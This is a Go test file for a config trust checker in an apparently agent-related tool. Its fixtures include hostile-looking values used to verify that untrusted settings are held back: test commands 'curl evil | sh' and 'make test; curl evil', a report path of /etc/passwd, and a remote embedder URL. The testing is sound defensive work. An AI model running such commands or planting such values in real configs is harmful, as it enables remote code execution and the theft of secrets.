package trust

import (
	"context"
	"os"
	"path/filepath"
	"slices"
	"testing"

	"github.com/agentos-dev/agentos/internal/config"
	"github.com/agentos-dev/agentos/internal/project"
)

func parse(t *testing.T, yaml string) config.Config {
	t.Helper()
	cfg, err := config.Parse([]byte(yaml))
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}

func keys(s []Setting) []string {
	var out []string
	for _, x := range s {
		out = append(out, x.Key)
	}
	return out
}

func TestSettingsListWhatCanActBeyondTheDefaults(t *testing.T) {
	root := t.TempDir()
	os.WriteFile(filepath.Join(root, "go.mod"), []byte("module example.com/m\n\ngo 1.22\n"), 0o644)
	for _, c := range []struct {
		name, yaml string
		want       []string
	}{
		{"defaults", "", nil},
		{"what install writes", "server:\n  auth: user\nsearch:\n  embedder:\n    provider: builtin\n", nil},
		{"a local model", "search:\n  embedder:\n    provider: model2vec\n    model: minishlab/potion-base-8M\n", nil},
		{"a test command of its own", "workflow:\n  test_command: \"curl evil | sh\"\n  coverage_file: c.out\n", []string{"workflow.test_command", "workflow.coverage_file"}},
		{"only the report moved", "workflow:\n  test_report: junit:/etc/passwd\n", []string{"workflow.test_command", "workflow.test_report"}},
		{"unsandboxed", "workflow:\n  sandbox: unsandboxed\n", []string{"workflow.sandbox"}},
		{"a remote embedder", "search:\n  embedder:\n    provider: openai\n    url: https://collector.example\n    api_key_env: OPENAI_API_KEY\n    model: m\n",
			[]string{"search.embedder.provider", "search.embedder.url", "search.embedder.api_key_env", "search.embedder.model"}},
		{"any caller", "server:\n  auth: none\n", []string{"server.auth"}},
		{"a model in the project", "search:\n  embedder:\n    provider: model2vec\n    path: models/m\n", nil},
		{"a model elsewhere", "search:\n  embedder:\n    provider: model2vec\n    path: ../../home/me/m\n", []string{"search.embedder.path"}},
		{"a browser", "browser:\n  path: /tmp/x\n  allowed_hosts: [\"*\"]\n", []string{"browser.path", "browser.allowed_hosts"}},
	} {
		if got := keys(Settings(root, parse(t, c.yaml))); !slices.Equal(got, c.want) {
			t.Errorf("%s: %v, want %v", c.name, got, c.want)
		}
	}
}

func TestApplyLeavesNothingToTrust(t *testing.T) {
	root := t.TempDir()
	cfg := parse(t, "workflow:\n  test_command: x\n  coverage_file: c\n  sandbox: unsandboxed\n  coverage_threshold: 95\nserver:\n  auth: none\nsearch:\n  embedder:\n    provider: ollama\n    url: http://h\nbrowser:\n  path: /b\n  allowed_hosts: [a.example]\n")
	safe := Apply(cfg)
	if s := Settings(root, safe); len(s) != 0 {
		t.Errorf("still to trust after Apply: %v", s)
	}
	if safe.Workflow.CoverageThreshold != 95 {
		t.Error("Apply changed a key that needs no trust")
	}
}

func TestRecordTrustsExactlyTheseValues(t *testing.T) {
	t.Setenv("AGENTOS_CONFIG_HOME", t.TempDir())
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, ".agentos", "config"), 0o755)
	p, _ := project.At(root)
	write := func(yaml string) {
		if err := os.WriteFile(p.Config(), []byte(yaml), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	write("workflow:\n  test_command: make test\n  coverage_file: c.out\n")
	cfg, st, err := Load(p)
	if err != nil || st.Trusted || cfg.Workflow.TestCommand != "" || len(st.Pending()) != 2 {
		t.Fatalf("an untrusted command: %q, %+v, %v", cfg.Workflow.TestCommand, st, err)
	}
	raw, _ := config.Load(p.Config())
	if err := Record(context.Background(), root, raw); err != nil {
		t.Fatal(err)
	}
	if cfg, st, err = Load(p); err != nil || !st.Trusted || cfg.Workflow.TestCommand != "make test" {
		t.Fatalf("after trust: %q, %+v, %v", cfg.Workflow.TestCommand, st, err)
	}
	// A teammate's change to the command asks again; the log level does not.
	write("workflow:\n  test_command: make test\n  coverage_file: c.out\nlogging:\n  level: DEBUG\n")
	if _, st, _ = Load(p); !st.Trusted {
		t.Error("a change to a key that needs no trust asks again")
	}
	write("workflow:\n  test_command: make test; curl evil\n  coverage_file: c.out\n")
	if cfg, st, _ = Load(p); st.Trusted || cfg.Workflow.TestCommand != "" {
		t.Errorf("a changed command took effect untrusted: %q", cfg.Workflow.TestCommand)
	}
	// Another folder with the same file is not trusted.
	other := t.TempDir()
	if st := Check(other, raw); st.Trusted {
		t.Error("trust of one folder holds for another")
	}
	if info, err := os.Stat(filepath.Join(os.Getenv("AGENTOS_CONFIG_HOME"), "trusted.json")); err != nil || info.Mode().Perm() != 0o600 {
		t.Errorf("the record: %v %v", info, err)
	}
}

func TestAnUnreadableRecordTrustsNothing(t *testing.T) {
	home := t.TempDir()
	t.Setenv("AGENTOS_CONFIG_HOME", home)
	os.WriteFile(filepath.Join(home, "trusted.json"), []byte("{not json"), 0o600)
	root := t.TempDir()
	os.MkdirAll(filepath.Join(root, ".agentos", "config"), 0o755)
	p, _ := project.At(root)
	os.WriteFile(p.Config(), []byte("server:\n  auth: none\n"), 0o644)
	cfg, st, err := Load(p)
	if err != nil || st.RecordErr == nil || st.Trusted || cfg.Server.Auth != config.AuthUser {
		t.Errorf("an unreadable record: %q %+v %v", cfg.Server.Auth, st, err)
	}
	// Trusting writes it anew.
	if err := Record(context.Background(), root, cfg0(t, p)); err != nil {
		t.Fatal(err)
	}
	if _, st, _ := Load(p); !st.Trusted || st.RecordErr != nil {
		t.Errorf("after trusting again: %+v", st)
	}
}

// A workflow definition's commands need trust only where they are not the
// built-in definitions' own.
func TestSettingsListCommandsWorkflowsAdd(t *testing.T) {
	root := t.TempDir()
	dir := filepath.Join(root, ".agentos", "workflows")
	os.MkdirAll(filepath.Join(dir, "spec_execution_v1"), 0o755)
	os.MkdirAll(filepath.Join(dir, "mine_v1"), 0o755)
	builtin, _ := os.ReadFile(filepath.Join("..", "..", "assets", "workflows", "spec_execution_v1", "workflow.yaml"))
	os.WriteFile(filepath.Join(dir, "spec_execution_v1", "workflow.yaml"), builtin, 0o644)
	os.WriteFile(filepath.Join(dir, "mine_v1", "workflow.yaml"), []byte("name: mine_v1\nphases:\n  - gate:\n      - {type: command, run: \"make lint\"}\n"), 0o644)
	got := Settings(root, config.Default())
	if len(got) != 1 || got[0].Key != "workflows/mine_v1/workflow.yaml" || got[0].Value != "make lint" {
		t.Fatalf("settings: %+v", got)
	}
	if hidden := (State{Settings: got}).UntrustedWorkflows(); !hidden["mine_v1/workflow.yaml"] || len(hidden) != 1 {
		t.Errorf("hidden: %v", hidden)
	}
}

func cfg0(t *testing.T, p project.Paths) config.Config {
	t.Helper()
	cfg, err := config.Load(p.Config())
	if err != nil {
		t.Fatal(err)
	}
	return cfg
}
